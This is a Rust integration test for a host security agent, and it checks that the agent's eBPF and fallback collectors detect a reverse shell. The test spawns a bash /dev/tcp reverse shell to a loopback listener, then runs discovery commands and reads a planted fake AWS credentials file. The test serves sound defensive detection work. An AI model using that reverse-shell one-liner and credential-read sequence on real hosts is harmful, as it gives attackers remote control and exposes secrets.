//! The agent sees a real reverse shell on both collection paths (eBPF tracepoints; the
//! fallback's process connector + procfs + fanotify): the process tree, the shell's
//! stdin/stdout on a socket, the connection's 5-tuple, the discovery commands, and the read of
//! a planted credentials file.

#![allow(clippy::expect_used, clippy::unwrap_used)]

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::Command;
use std::time::Duration;
use vigil_model::host::{Direction, FdKind, FileAccessKind};
use vigil_model::{EventSource, HostEventKind};

#[test]
fn reverse_shell_on_the_ebpf_path() {
    if !common::is_root() {
        return;
    }
    if !common::collectors().contains(&"ebpf") {
        return;
    }
    reverse_shell_discovery_and_credential_read("ebpf");
}

#[test]
fn reverse_shell_on_the_fallback_path() {
    if !common::is_root() {
        return;
    }
    reverse_shell_discovery_and_credential_read("fallback");
}

fn reverse_shell_discovery_and_credential_read(collector: &str) {
    let dir = tempfile::tempdir().unwrap();
    let creds_dir = dir.path().join("home/.aws");
    std::fs::create_dir_all(&creds_dir).unwrap();
    let creds = creds_dir.join("credentials");
    std::fs::write(
        &creds,
        "[default]\naws_access_key_id = AKIAFAKEFAKEFAKEFAKE\naws_secret_access_key = fake\n",
    )
    .unwrap();
    let out = dir.path().join("events.jsonl");
    let spool = dir.path().join("spool");
    let agent = common::start(&[
        "--output",
        out.to_str().unwrap(),
        "--spool-dir",
        spool.to_str().unwrap(),
        "--host-id",
        "test-host",
        "--no-default-watch",
        "--watch",
        creds.to_str().unwrap(),
        "--batch-ms",
        "100",
        "--net-poll-ms",
        "100",
        "--collector",
        collector,
    ]);

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut shell = Command::new("bash")
        .arg("-c")
        .arg(format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
        .spawn()
        .unwrap();
    let outer_pid = shell.id();
    let (mut conn, _) = listener.accept().unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    // Give the socket poll time to see the live connection before the commands run.
    std::thread::sleep(Duration::from_millis(400));
    // The discovery commands and the credentials read run three times: on the fallback path
    // a command that exits
    // before its /proc entry is read keeps its pid but loses its program and arguments (a
    // documented limit, ~1.5 % of very short-lived processes under load); the assertions below
    // need each command seen whole at least once. The eBPF path reads them in the kernel.
    conn.write_all(
        format!(
            "for i in 1 2 3; do whoami; id; uname -a; cat {}; done; sleep 0.5; exit\n",
            creds.display()
        )
        .as_bytes(),
    )
    .unwrap();
    let mut transcript = Vec::new();
    let mut chunk = [0u8; 4096];
    while let Ok(n) = conn.read(&mut chunk) {
        if n == 0 || transcript.len() > 1 << 20 {
            break;
        }
        transcript.extend_from_slice(&chunk[..n]);
    }
    assert!(
        String::from_utf8_lossy(&transcript).contains("AKIAFAKEFAKEFAKEFAKE"),
        "the shell really ran the commands"
    );
    shell.wait().unwrap();
    std::thread::sleep(Duration::from_millis(500));
    let log = agent.stop();
    common::assert_path(&log, collector);

    let events = common::read_events(&out);
    assert!(
        events
            .iter()
            .all(|e| e.source == EventSource::Agent && e.host().unwrap().host_id == "test-host")
    );
    let mut ids: Vec<&str> = events.iter().map(|e| e.id.as_str()).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), events.len(), "event ids are unique");

    let starts = common::starts(&events);
    // The outer `bash -c`, started by this test.
    let outer = starts
        .iter()
        .find(|p| p.pid == outer_pid)
        .expect("the outer bash start");
    assert_eq!(outer.ppid, std::process::id());
    // The interactive shell: its stdin and stdout are the socket.
    let shell_proc = starts
        .iter()
        .find(|p| p.ppid == outer_pid && p.argv == ["bash", "-i"])
        .unwrap_or_else(|| panic!("bash -i under {outer_pid}: {starts:#?}"));
    assert_eq!(shell_proc.stdin, Some(FdKind::Socket));
    assert_eq!(shell_proc.stdout, Some(FdKind::Socket));
    assert!(shell_proc.exe.ends_with("/bash"));
    assert!(
        shell_proc
            .parent_exe
            .as_deref()
            .unwrap_or("")
            .ends_with("/bash"),
        "parent program: {shell_proc:?}"
    );
    assert_eq!(shell_proc.euid, 0);
    assert!(shell_proc.pid_ns.is_some() && shell_proc.mnt_ns.is_some());
    // Discovery commands are children of the interactive shell. (The agent sees the whole
    // machine, other tests' shells included, so the parent picks this test's ones.)
    for cmd in ["whoami", "id", "uname"] {
        let p = starts
            .iter()
            .find(|p| p.argv.first().map(String::as_str) == Some(cmd) && p.ppid == shell_proc.pid)
            .unwrap_or_else(|| panic!("{cmd} start under the reverse shell {}", shell_proc.pid));
        assert!(p.exe.ends_with(cmd), "{cmd}: exe {}", p.exe);
        assert_eq!(
            p.parent_exe,
            Some(shell_proc.exe.clone()),
            "{cmd}: parent program"
        );
    }
    // The connection: the shell's connect to the listener, with the 5-tuple.
    let connect = events
        .iter()
        .find_map(|e| match &e.host()?.kind {
            HostEventKind::Network {
                direction: Direction::Connect,
                dst_port,
                dst_ip,
                src_ip,
                src_port,
                process,
                ..
            } if *dst_port == port => {
                Some((dst_ip.clone(), src_ip.clone(), *src_port, process.clone()))
            }
            _ => None,
        })
        .expect("the reverse shell's connect");
    assert_eq!(connect.0, "127.0.0.1");
    assert_eq!(connect.1, "127.0.0.1");
    assert_ne!(connect.2, 0);
    assert!(
        [outer_pid, shell_proc.pid].contains(&connect.3.pid),
        "connect owned by the shell, got {:?}",
        connect.3
    );
    assert!(connect.3.exe.as_deref().unwrap_or("").ends_with("/bash"));
    // The listener's side is an accept by this test process.
    assert!(events.iter().any(|e| matches!(&e.host().unwrap().kind,
        HostEventKind::Network { direction: Direction::Accept, dst_port, process, .. }
            if *dst_port == port && process.pid == std::process::id())));
    // The credentials read, by a `cat` under the shell (one of the three seen whole).
    let cats: Vec<u32> = starts
        .iter()
        .filter(|p| p.argv.first().map(String::as_str) == Some("cat") && p.ppid == shell_proc.pid)
        .map(|p| p.pid)
        .collect();
    assert!(!cats.is_empty(), "a cat start under the shell: {starts:#?}");
    let reads: Vec<_> = events
        .iter()
        .filter_map(|e| match &e.host()?.kind {
            HostEventKind::FileAccess {
                path,
                access: FileAccessKind::Read,
                process,
            } if path == creds.to_str().unwrap() => Some(process.clone()),
            _ => None,
        })
        .collect();
    assert!(!reads.is_empty(), "the credentials file read");
    assert!(
        reads
            .iter()
            .any(|r| cats.contains(&r.pid) && r.exe.as_deref().unwrap_or("").ends_with("/cat")),
        "a read by one of the cats {cats:?}, named: {reads:#?}"
    );
    // Exits are reported with their codes.
    assert!(events.iter().any(|e| matches!(&e.host().unwrap().kind,
        HostEventKind::ProcessExit { pid, exit_code: Some(0), .. } if *pid == shell_proc.pid)));
}
